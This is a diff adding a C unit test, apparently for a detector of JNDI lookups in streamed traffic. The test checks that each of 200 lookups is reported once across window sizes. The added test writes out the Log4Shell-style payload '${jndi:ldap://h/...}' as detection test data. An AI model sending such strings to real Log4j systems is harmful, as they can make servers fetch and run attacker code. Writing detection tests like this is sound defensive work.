@@ -347,6 +347,25 @@ static void a_packed_text_pays_by_what_was_sent(void **state)
     buf_drop(&text);
 }
 
+/* More than a flow remembers by name: what is settled is not looked at again with what comes behind it. */
+static void a_stream_of_lookups_tells_each_once(void **state)
+{
+    struct buf text = buf_within(20000);
+    size_t line;
+
+    (void)state;
+    field.kind = FIELD_RAW;
+    for (unsigned i = 0; i < 200; i++)
+        buf_addf(&text, "hello ${jndi:ldap://h/%03u} and on\n", i);
+    line = text.len / 200;
+    for (size_t lines = 1; lines <= 16; lines *= 2) {
+        seen = (struct seen){0};
+        give_window(buf_bytes(&text), lines * line);
+        assert_int_equal(seen.n, 200);
+    }
+    buf_drop(&text);
+}
+
 /* The place of a lookup is known however far in it is, and however the body came. */
 static void a_long_body_says_where(void **state)
 {
@@ -456,6 +475,7 @@ int main(void)
         IN_A_FLOW(one_lookup_in_one_request_is_one_finding),
         IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
         IN_A_FLOW(a_hostile_window_stays_cheap),
+        IN_A_FLOW(a_stream_of_lookups_tells_each_once),
         IN_A_FLOW(a_reading_that_waits_gets_its_turn),
         IN_A_FLOW(a_packed_text_pays_by_what_was_sent),
         IN_A_FLOW(a_long_body_says_where),
